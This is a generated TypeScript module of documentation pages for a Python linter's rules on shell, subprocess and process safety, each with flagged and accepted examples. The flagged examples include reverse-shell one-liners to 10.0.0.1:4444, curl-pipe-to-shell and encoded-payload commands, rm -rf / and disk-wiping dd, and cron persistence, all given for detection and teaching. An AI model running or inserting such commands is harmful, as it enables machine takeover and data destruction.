// Written by scripts/rule-pages.mjs.
export const pages: Readonly<Record<string, string>> = {
  'argument-injection': `# argument-injection

Without a shell a value can't become a command, but it can become an option: \`--upload-pack=…\` has \`git clone\` run a program, \`-o ProxyCommand=…\` has \`ssh\` do so.

## How to fix

Put \`--\` before the values, and refuse those that begin with \`-\`.

## Bad

\`\`\`python
import subprocess
import sys

address = sys.argv[1]
subprocess.run(["git", "clone", address])  # error: [argument-injection]
command = ["tar", "xf", input()]
subprocess.check_call(command)  # error: [argument-injection]
\`\`\`

## Good

\`\`\`python
import subprocess
import sys

subprocess.run(["git", "clone", "--", sys.argv[1]])
subprocess.run(["git", "log", "-n", str(int(input()))])
subprocess.run(["grep", "-e", sys.argv[1], "file"])
subprocess.run(["git", "clone", "https://x.example/a"])
subprocess.run(["echo", input()])
\`\`\`
`,
  'code-before-exec': `# code-before-exec

Between \`fork\` and \`exec\` only one thread is left and locks stay as they were: \`preexec_fn\` may never come back. Python's documentation warns of it.

## How to fix

Use \`start_new_session=True\`, \`process_group=\`, \`user=\` or \`cwd=\`.

## Bad

\`\`\`python
import os
import subprocess

subprocess.Popen(["/bin/ls"], preexec_fn=os.setsid)  # error: [code-before-exec]
\`\`\`

## Good

\`\`\`python
import subprocess

subprocess.Popen(["/bin/ls"], start_new_session=True)
subprocess.Popen(["/bin/ls"], preexec_fn=None)
run(preexec_fn=work)
\`\`\`
`,
  'destructive-command': `# destructive-command

\`rm -rf\`, \`mkfs\`, \`dd of=/dev/…\`, \`chmod 777\`: one wrong path or one surprising value and something is gone, or open to everybody.

## How to fix

Do it in Python on a path that was checked, and ask a person before.

## Bad

\`\`\`python
import os
import subprocess

os.system("rm -rf /")  # error: [destructive-command]
os.system("rm -rf / --no-preserve-root")  # error: [destructive-command]
subprocess.run(["rm", "-rf", "/etc"])  # error: [destructive-command]
subprocess.run(["rm", "-r", "-f", folder])  # error: [destructive-command]
os.system(f"rm -rf {folder}/*")  # error: [destructive-command]
command = "mkfs.ext4 /dev/sda1"
os.popen(command)  # error: [destructive-command]
subprocess.call("dd if=/dev/zero of=/dev/sda", shell=True)  # error: [destructive-command]
os.system("rm -f /etc/passwd")  # error: [destructive-command]
os.system("find /srv -delete")  # error: [destructive-command]
os.system("chmod -R 777 /srv")  # error: [destructive-command]
\`\`\`

## Good

\`\`\`python
import os
import subprocess

os.system("rm notes.txt")
subprocess.run(["dd", "if=a", "of=b"])
subprocess.run(["chmod", "640", "x"])
os.system("echo alarm -rf")
text = "rm -rf /"
subprocess.run(["git", "push"])
\`\`\`
`,
  'fetched-program': `# fetched-program

\`curl … | sh\` runs whatever the address gives at that moment, and \`base64 -d | sh\` runs what nobody has read.

## How to fix

Download the file, compare its digest, read it, and install it before the script.

## Bad

\`\`\`python
import os
import subprocess

os.system("curl -s https://x.example/install.sh | sh")  # error: [fetched-program]
subprocess.run("wget -qO- https://x.example/a.py | python3", shell=True)  # error: [fetched-program]
subprocess.run(["bash", "-c", "echo aWQ= | base64 -d | bash"])  # error: [fetched-program]
address = input()
os.system(f"curl {address} | sudo bash")  # error: [fetched-program]
os.popen("powershell -nop -enc aQBkAA==")  # error: [fetched-program]
\`\`\`

## Good

\`\`\`python
import os
import subprocess

os.system("curl -o data.csv https://x.example/data.csv")
subprocess.run(["sh", "build.sh"])
text = "curl https://x.example | sh"
os.system("base64 -d file.b64 > file")
os.system("curl https://x.example | grep sh")
\`\`\`
`,
  'persistence-command': `# persistence-command

Cron tables, services and start-up files run after the script is long gone. A script that analyses data has no business there.

## How to fix

Leave the set-up of a machine to those who run it.

## Bad

\`\`\`python
import os
import subprocess

os.system('(crontab -l; echo "* * * * * /tmp/x") | crontab -')  # error: [persistence-command]
subprocess.run(["systemctl", "enable", "x.service"])  # error: [persistence-command]
os.system(f"echo '{line}' >> ~/.bashrc")  # error: [persistence-command]
\`\`\`

## Good

\`\`\`python
import os
import subprocess

text = open("/home/user/.bashrc").read()
subprocess.run(["systemctl", "status", "x"])
os.system("crontab -l")
\`\`\`
`,
  'privilege-raised': `# privilege-raised

\`sudo\` in a script takes rights that its author did not show a need for, and a privileged container is the machine itself.

## How to fix

Run the script with the rights that it needs, and no more.

## Bad

\`\`\`python
import os
import subprocess

os.system("sudo reboot-tool")  # error: [privilege-raised]
subprocess.run(["sudo", "-n", "cat", path])  # error: [privilege-raised]
subprocess.run("docker run --privileged image", shell=True)  # error: [privilege-raised]
os.setuid(0)  # error: [privilege-raised]
\`\`\`

\`\`\`python
import docker

docker.from_env().containers.run("python:3.12", "python x.py", privileged=True)  # error: [privilege-raised]
docker.from_env().containers.run("tool", volumes=["/var/run/docker.sock:/s"], pid_mode="host")  # error: [privilege-raised]
\`\`\`

## Good

\`\`\`python
import os
import subprocess

os.setuid(1000)
subprocess.run(["echo", "sudo"])
os.system("docker run --rm image")
\`\`\`
`,
  'process-signalled': `# process-signalled

Signals stop other processes, or catch those that are to stop this one. Limits that a script changes are no limits. Stopping a process that is not the script's own is critical.

## How to fix

Leave the life of processes to the sandbox. To end early, raise an exception or return.

## Bad

\`\`\`python
import os
import signal

import psutil

os.kill(1, signal.SIGKILL)  # error: [process-signalled]
signal.signal(signal.SIGTERM, signal.SIG_IGN)  # error: [process-signalled]
for process in psutil.process_iter():
    if process.name() == "x":
        process.kill()  # error: [process-signalled]
psutil.Process(1).terminate()  # error: [process-signalled]
os._exit(1)  # error: [process-signalled]
\`\`\`

## Good

\`\`\`python
import psutil
from scipy import signal

peaks = signal.find_peaks([1, 2, 1])
load = psutil.cpu_percent()
raise SystemExit("no data")
\`\`\`
`,
  'process-started': `# process-started

A program that is started by the script does as it likes: nothing that was checked here holds for it. Analysis code has no need of one, so the gate refuses. This is about what must not run unseen; whether a command line is built safely is another matter, see \`shell-command\`.

## How to fix

Compute in Python. What the program would have given, ask for as a dataset.

## Bad

\`\`\`python
import os
import os as system_module
import subprocess
from os import system as greet
from subprocess import run

os.system("id")  # error: [process-started]
system_module.popen("id")  # error: [process-started]
greet("hello")  # error: [process-started]
run(["ls", "-l"])  # error: [process-started]
subprocess.Popen("id", shell=True).communicate()  # error: [process-started]
hidden = getattr(__import__("o" + "s"), "metsys"[::-1])
hidden("id")  # error: [process-started]
list(map(os.system, ["id"]))  # error: [process-started]


class Tool:
    def __init__(self):
        self.run = os.system  # error: [process-started]


Tool().run("id")  # error: [process-started]
{"x": os.execv}["x"]("/bin/sh", [])  # error: [process-started]
\`\`\`

## Good

\`\`\`python
import os


def system(text):
    return text


system("id")
os.path.join("a", "b")


class Popen:
    pass


Popen()
\`\`\`
`,
  'program-by-name': `# program-by-name

A program that is named without its path is the first of that name along \`PATH\`, which whoever starts the script decides.

## How to fix

Give the whole path, or find it with \`shutil.which\` along a path of your own.

## Bad

\`\`\`python
import subprocess

subprocess.run(["git", "status"])  # error: [program-by-name]
name = "ffmpeg"
subprocess.run([name, "-version"])  # error: [program-by-name]
\`\`\`

## Good

\`\`\`python
import subprocess
import sys

subprocess.run(["/usr/bin/git", "status"])
subprocess.run([sys.executable, "-V"])
subprocess.run([program, "-V"])
\`\`\`
`,
  'program-from-outside': `# program-from-outside

A list of arguments keeps the shell out, but not who writes its first item: that is the program. A command line that is split into words, or a list from a request, starts anything that is installed.

## How to fix

Write the program and its options into the code and take only values from outside, after \`--\`. Where several programs are meant, look them up in a dictionary by a name.

## Bad

\`\`\`python
import shlex
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.post("/run")
def run():
    subprocess.run(request.json["command"].split(), timeout=5)  # error: [program-from-outside]
    subprocess.run(shlex.split(request.json["command"]), timeout=5)  # error: [program-from-outside]
    subprocess.run([request.json["tool"], "--version"], timeout=5)  # error: [program-from-outside]
    subprocess.Popen(request.json["words"])  # error: [program-from-outside]
    return ""
\`\`\`

## Good

\`\`\`python
import subprocess
import sys

from flask import Flask, request

app = Flask(__name__)
TOOLS = {"list": ["ls", "-l"], "date": ["date"]}


@app.post("/run")
def run():
    subprocess.run(TOOLS[request.json["tool"]], timeout=5)
    subprocess.run(["wc", "-l", "--", request.json["file"]], timeout=5)
    tool = request.json["tool"]
    if tool in TOOLS:
        subprocess.run([tool], timeout=5)
    return ""


def forward():
    subprocess.run(sys.argv[1:], timeout=5)
\`\`\`

\`\`\`python
import subprocess

from fastapi import FastAPI

app = FastAPI()


def execute(words, **options):
    return subprocess.run(words, check=True, timeout=20, **options)


@app.get("/list")
def show(name: str):
    return execute(["ls", "--", name]).stdout
\`\`\`
`,
  'remote-command': `# remote-command

SSH servers, containers and remote sandboxes hand the command line to a shell. A value in it can become a command there, on a machine that holds more than the script does.

## How to fix

Quote every value by \`shlex.quote\`, or send a list of arguments.

## Bad

\`\`\`python
import docker
import paramiko

client = paramiko.SSHClient()
name = input()
client.exec_command("cat " + name)  # error: [remote-command]
command = f"ls {name}"
client.exec_command(command)  # error: [remote-command]
container.exec_run(f"sh -c 'cat {path}'")  # error: [remote-command]
docker.from_env().containers.run("alpine", "echo {}".format(path))  # error: [remote-command]
\`\`\`

## Good

\`\`\`python
import shlex

import paramiko

client = paramiko.SSHClient()
client.exec_command("uptime")
client.exec_command(f"cat {shlex.quote(name)}")
container.exec_run(["cat", path])
COMMAND = "ls " + "-l"
client.exec_command(COMMAND)
\`\`\`
`,
  'reverse-shell': `# reverse-shell

A socket that becomes the input and output of a shell gives the machine to whoever is at the other end.

## How to fix

Remove it. Remote work is done through SSH, by people.

## Bad

\`\`\`python
import os
import pty
import socket
import subprocess

s = socket.socket()
s.connect(("host", 4444))
os.dup2(s.fileno(), 0)  # error: [reverse-shell]
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno())  # error: [reverse-shell]
os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")  # error: [reverse-shell]
subprocess.run(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])  # error: [reverse-shell]
os.system("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f")  # error: [reverse-shell]
\`\`\`

## Good

\`\`\`python
import os
import subprocess

log = open("log.txt", "w")
os.dup2(log.fileno(), 1)
subprocess.run(["nc", "-z", "localhost", "80"])
subprocess.run(["cat"], stdin=log)
text = "bash -i >& /dev/tcp/host/1"
\`\`\`
`,
  'shell-command': `# shell-command

A shell reads \`;\`, \`|\`, \`$(…)\` and spaces, so that a value that is put into a command line can become a command of its own. A constant command is only a remark.

## How to fix

Pass a list of arguments, \`subprocess.run(["grep", word, path])\`, and leave \`shell\` out.

## Bad

\`\`\`python
import os
import subprocess

word = input()
os.system("grep " + word)  # error: [shell-command]
subprocess.run(f"grep {word}", shell=True)  # error: [shell-command]
os.system("ls")  # error: [shell-command]
run = subprocess.check_output
command = "grep %s file" % word
run(command, shell=True)  # error: [shell-command]


def find(name):
    os.system("find . -name " + name)  # error: [shell-command]
\`\`\`

\`\`\`python
import os
import subprocess
from functools import partial

from flask import Flask, request

app = Flask(__name__)
shell = partial(subprocess.run, shell=True, timeout=5)


@app.get("/a")
def a():
    subprocess.run(["bash", "-c", request.args["script"]], timeout=5)  # error: [shell-command]
    os.execl("/bin/sh", "sh", "-c", "echo " + request.args["name"])  # error: [shell-command]
    return str(shell("tar xf " + request.args["file"]))  # error: [shell-command]


@app.get("/b")
def b():
    options = {"timeout": 5}
    options.setdefault("shell", True)
    return subprocess.run("grep x " + request.args["file"], **options).stdout  # error: [shell-command]


def c(name):
    subprocess.run(["sh", "-c", f"wc -l {name}"], timeout=5)  # error: [shell-command]
\`\`\`

\`\`\`python
import subprocess

from flask import Flask, request
from sh import bash

app = Flask(__name__)


@app.post("/run")
def run():
    shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE)
    shell.communicate(request.data)  # error: [shell-command]
    bash("-c", request.form["command"])  # error: [shell-command]
    subprocess.run(["python3", "-c", request.form["code"]], timeout=3)  # error: [shell-command]
    return ""
\`\`\`

## Good

\`\`\`python
import os
import shlex
import subprocess

subprocess.run(["grep", word, "file"])
os.system(f"grep {shlex.quote(word)} file")
safe = shlex.quote(word)
subprocess.run("grep " + safe, shell=True)
subprocess.run(["ls"], shell=False)
\`\`\`

\`\`\`python
import subprocess

SERVICES = {"web", "worker"}


def log(service, lines):
    if service not in SERVICES:
        raise ValueError(service)
    lines = int(lines)
    for command in ("/usr/bin/uptime", "/usr/bin/df"):
        subprocess.run([command], check=True)
    subprocess.run(["/usr/bin/journalctl", "-u", service, "-n", str(lines)], check=True)
\`\`\`

\`\`\`python
import shlex
import subprocess

subprocess.run(["bash", "-c", "wc -l *.csv"], timeout=5)


def count(name):
    subprocess.run(["sh", "-c", 'wc -l "$1"', "sh", name], timeout=5)
    subprocess.run(["sh", "-c", f"wc -l {shlex.quote(name)}"], timeout=5)
    subprocess.run(["wc", "-c", name], timeout=5)
\`\`\`

\`\`\`python
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.post("/count")
def count():
    words = subprocess.Popen(["wc", "-c"], stdin=subprocess.PIPE)
    words.communicate(request.data)
    subprocess.run(["python3", "-c", "print(1)", request.form["name"]], timeout=3)
    return ""
\`\`\`
`,
  'shell-with-list': `# shell-with-list

With \`shell=True\` the first item of a list is the command, and the others are arguments of the shell: \`["rm", "x"]\` runs \`rm\` alone. On Windows they are joined, and behave otherwise.

## How to fix

Leave \`shell=True\` out.

## Bad

\`\`\`python
import subprocess

subprocess.run(["ls", "-l"], shell=True)  # error: [shell-with-list]
command = ("cp", a, b)
subprocess.check_call(command, shell=True)  # error: [shell-with-list]
\`\`\`

## Good

\`\`\`python
import subprocess

subprocess.run(["ls", "-l"])
subprocess.run("ls -l", shell=True)
subprocess.run(["ls"], shell=True)
subprocess.run(["ls", "-l"], shell=False)
\`\`\`
`,
  'wildcard-argument': `# wildcard-argument

A shell replaces \`*\` by the names that are there. A file called \`--checkpoint-action=exec=sh x\` is an option for \`tar *\`.

## How to fix

Write \`./*\`, or \`--\` before the names, or list the files in Python.

## Bad

\`\`\`python
import os
import subprocess

os.system("tar cf backup.tar *")  # error: [wildcard-argument]
subprocess.run("chown user *", shell=True)  # error: [wildcard-argument]
subprocess.run(["sh", "-c", "rsync -a * host:/x"])  # error: [wildcard-argument]
\`\`\`

## Good

\`\`\`python
import os
import subprocess

os.system("tar cf backup.tar ./*")
os.system("chown user -- *")
subprocess.run(["tar", "cf", "x.tar", "*"])
os.system("ls *")
\`\`\`
`,
}
